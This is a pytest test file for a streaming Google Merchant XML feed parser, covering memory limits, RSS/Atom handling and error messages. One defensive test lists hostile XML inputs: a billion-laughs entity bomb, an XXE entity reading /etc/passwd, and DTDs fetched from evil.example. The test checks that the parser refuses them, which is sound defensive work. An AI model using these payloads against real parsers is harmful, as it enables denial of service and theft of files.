"""Google Merchant's XML: streamed, and safe."""

import tracemalloc
from collections.abc import Iterator
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tailorbird.stages.catalog.merchant_xml import TEXT_CHARS_MAX, FeedXmlError, read_merchant_xml

HEAD = '<?xml version="1.0"?><rss version="2.0" xmlns:g="http://base.google.com/ns/1.0"><channel><title>Shop</title>'
TAIL = "</channel></rss>"


def read(text: str | bytes) -> list[object]:
    data = text.encode() if isinstance(text, str) else text
    return [fields for _, fields in read_merchant_xml(data[i : i + 7] for i in range(0, len(data), 7))]


def rss(*items: str) -> str:
    return HEAD + "".join(f"<item>{item}</item>" for item in items) + TAIL


def test_rss_and_atom_say_the_same() -> None:
    atom = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0"><title>Shop</title><entry>'
        '<g:id>1</g:id><title>Mug</title><link href="https://s.example/1"/><link rel="self" href="https://no"/>'
        "<g:price>2 GBP</g:price></entry></feed>"
    )
    assert read(atom) == read(
        rss("<g:id>1</g:id><title>Mug</title><link>https://s.example/1</link><g:price>2 GBP</g:price>")
    )


def test_several_values_are_kept_in_order_and_nested_ones_joined() -> None:
    shipping = (
        "<g:shipping><g:country>GB</g:country><g:service>Post</g:service><g:price>3.95 GBP</g:price></g:shipping>"
    )
    (fields,) = read(rss(f"<g:id>1</g:id><g:size>S</g:size><g:size>M</g:size>{shipping}{shipping}"))
    assert fields == {"id": ["1"], "size": ["S", "M"], "shipping": ["GB:Post:3.95 GBP"] * 2}


def test_lines_are_those_where_an_item_begins() -> None:
    data = (HEAD + "\n<item><g:id>1</g:id></item>\n\n<item>\n<g:id>2</g:id></item>" + TAIL).encode()
    assert [line for line, _ in read_merchant_xml([data])] == [2, 4]


BOMB = "<!DOCTYPE r [" + "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10)
) + "]><rss><channel><item><id>&l9;</id></item></channel></rss>"  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        BOMB,
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><item><id>&x;</id></item></rss>',
        '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><rss><item><id>1</id></item></rss>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><rss/>',
    ],
)
def test_entities_and_document_types_are_refused(text: str) -> None:
    with pytest.raises(FeedXmlError, match="take it out"):
        read(text)


def test_a_text_without_end_costs_one_offer_and_no_memory() -> None:
    def chunks() -> Iterator[bytes]:
        yield (HEAD + "<item><g:id>1</g:id><g:description>").encode()
        for _ in range(2_000):
            yield b"x" * 10_000
        yield ("</g:description></item><item><g:id>2</g:id></item>" + TAIL).encode()

    tracemalloc.start()
    first, second = list(read_merchant_xml(chunks()))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert first[1] == f"description\x1fis longer than {TEXT_CHARS_MAX:,} characters"
    assert second[1] == {"id": ["2"]}
    assert peak < 2_000_000


@pytest.mark.slow
def test_a_tag_without_end_is_refused_before_it_fills_the_memory() -> None:
    def chunks() -> Iterator[bytes]:
        yield (HEAD + '<item a="').encode()
        while True:
            yield b"x" * 65_536

    with pytest.raises(FeedXmlError, match="longer than any real one"):
        list(read_merchant_xml(chunks()))


@pytest.mark.slow
def test_many_items_are_read_one_by_one() -> None:
    def chunks() -> Iterator[bytes]:
        yield HEAD.encode()
        for i in range(20_000):
            yield f"<item><g:id>{i}</g:id><title>{'Kettle ' * 50}</title></item>".encode()
        yield TAIL.encode()

    tracemalloc.start()
    assert sum(1 for _ in read_merchant_xml(chunks())) == 20_000
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 1_000_000


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("<rss><channel>", "line 1: not XML"),
        ("<rss><item><a></b></item></rss>", "mismatched tag"),
        ("<html><p>Not found</p></html>", "holds no <item>"),
        ("<r>" * 40 + "</r>" * 40, "nested deeper"),
        ("", "no element found"),
        (b"<rss>\xff\xff</rss>", "not well-formed"),
    ],
)
def test_what_is_no_feed_is_one_clear_error(text: str | bytes, why: str) -> None:
    with pytest.raises(FeedXmlError, match=why):
        read(text)


WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["C"]), min_size=1).map(str.strip).filter(bool)
FIELDS = st.sampled_from(["id", "title", "brand", "size", "custom_label_0"])


@pytest.mark.slow
@given(st.lists(st.dictionaries(FIELDS, st.lists(WORDS, min_size=1, max_size=3), min_size=1), min_size=1, max_size=4))
def test_offers_that_were_written_are_read_back(offers: list[dict[str, list[str]]]) -> None:
    items = (
        "".join(f"<g:{name}>{escape(value)}</g:{name}>" for name, values in offer.items() for value in values)
        for offer in offers
    )
    assert read(rss(*items)) == offers
